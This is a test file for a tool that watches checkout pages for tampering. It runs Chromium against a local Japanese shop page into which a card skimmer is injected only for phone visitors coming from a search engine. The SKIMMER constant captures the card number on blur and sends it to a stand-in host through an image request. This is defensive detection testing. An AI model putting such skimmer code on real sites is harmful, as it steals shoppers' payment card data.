// `watch page` with a real Chromium against a real page: approved, then tampered with as skimmers do.

import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { createWatchPageActs } from "../../src/main/watch/page-acts.ts";
import { noBrowser } from "./chromium.ts";

const CHECKOUT = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><script src="/app.js?v=1"></script></head><body>
<form action="/pay" method="post"><input name="card_number" autocomplete="cc-number"><input name="security_code">
<button id="pay">注文を確定する</button></form><script>var csrf_token = "TOKEN"; window.shop = 1;</script>MORE</body></html>`;
/** Shows itself to phones that come from a search, listens to the card field, sends it away. */
const SKIMMER = `<script>document.querySelector("[name=card_number]").addEventListener("blur", (event) => {
  new Image().src = "http://127.0.0.1:9/" + event.target.value; });
fetch("http://127.0.0.1:9/hello").catch(() => undefined);</script>`;

test(
  "a page is approved, found the same, and a skimmer that shows itself to phones alone is an alarm",
  { skip: noBrowser },
  async (t) => {
    let isTampered = false;
    let paid = 0;
    const server = createServer((request, response) => {
      if (request.method === "POST") paid += 1;
      const path = (request.url ?? "/").split("?")[0];
      if (path === "/app.js") {
        response.setHeader("content-type", "text/javascript");
        response.end("document.addEventListener('submit', () => undefined);");
        return;
      }
      const isPhoneFromSearch =
        /Mobile/.test(request.headers["user-agent"] ?? "") && /google/.test(request.headers.referer ?? "");
      response.setHeader("content-type", "text/html; charset=utf-8");
      if (path === "/") response.end('<a id="go" href="/checkout">レジへ</a>');
      else
        response.end(
          CHECKOUT.replace("TOKEN", crypto.randomUUID().replaceAll("-", "")).replace(
            "MORE",
            isTampered && isPhoneFromSearch ? SKIMMER : "",
          ),
        );
    }).listen(0, "127.0.0.1");
    const folder = mkdtempSync(join(tmpdir(), "misemori-page-look-"));
    t.after(() => {
      server.closeAllConnections();
      server.close();
      rmSync(folder, { recursive: true });
    });
    await new Promise((resolve) => server.once("listening", resolve));
    const { port } = server.address() as AddressInfo;
    const acts = createWatchPageActs(process.env);
    const wish = {
      name: "checkout",
      url: `http://127.0.0.1:${port}/checkout`,
      steps: null as string | null,
      approvedFile: join(folder, "pages", "checkout.json"),
      recordsFolder: null,
      chromiumPath: null,
      dwellMs: 300,
      language: "ja" as const,
      gone: new AbortController().signal,
      onProgress: () => undefined,
    };
    const first = await acts.watchPage(wish);
    assert.ok(first.ok && first.value.inventory !== null, JSON.stringify(first));
    assert.equal(first.value.changes, null);
    const { scripts, forms, listeners } = first.value.inventory;
    assert.deepEqual(
      scripts.map(({ kind }) => kind),
      ["file", "inline"],
    );
    assert.deepEqual(forms[0]?.fields, ["card_number", "security_code"]);
    assert.ok(listeners.every(({ script }) => script.endsWith("/app.js")));
    const approval = { by: "cli:花子", why: "開店", notes: null, report: first.value };
    assert.ok((await acts.approvePage({ ...wish, ...approval })).ok);

    const same = await acts.watchPage({ ...wish, steps: '[{"open":"/"},{"click":"#go"}]' });
    assert.ok(same.ok);
    assert.deepEqual(same.value.changes, []);

    isTampered = true;
    const found = await acts.watchPage(wish);
    assert.ok(found.ok && found.value.changes !== null);
    const changes = found.value.changes;
    assert.deepEqual(changes.map(({ kind }) => kind).toSorted(), ["host-new", "listener-new", "script-new"]);
    assert.ok(
      changes.every(({ weight, seenBy }) => weight === "alarm" && seenBy?.join() === "phone-from-search"),
    );

    const paying = await acts.watchPage({ ...wish, steps: '[{"open":"/checkout"},{"click":"#pay"}]' });
    assert.ok(paying.ok && paying.value.inventory === null);
    assert.match(paying.value.visits[0]?.trouble ?? "", /would pay/);
    assert.equal(paid, 0);

    writeFileSync(wish.approvedFile, readFileSync(wish.approvedFile, "utf8").slice(0, 200));
    const damaged = await acts.watchPage(wish);
    assert.ok(!damaged.ok && damaged.code === "watch.page-file");
    assert.ok(!existsSync(`${wish.approvedFile}.part`));
  },
);
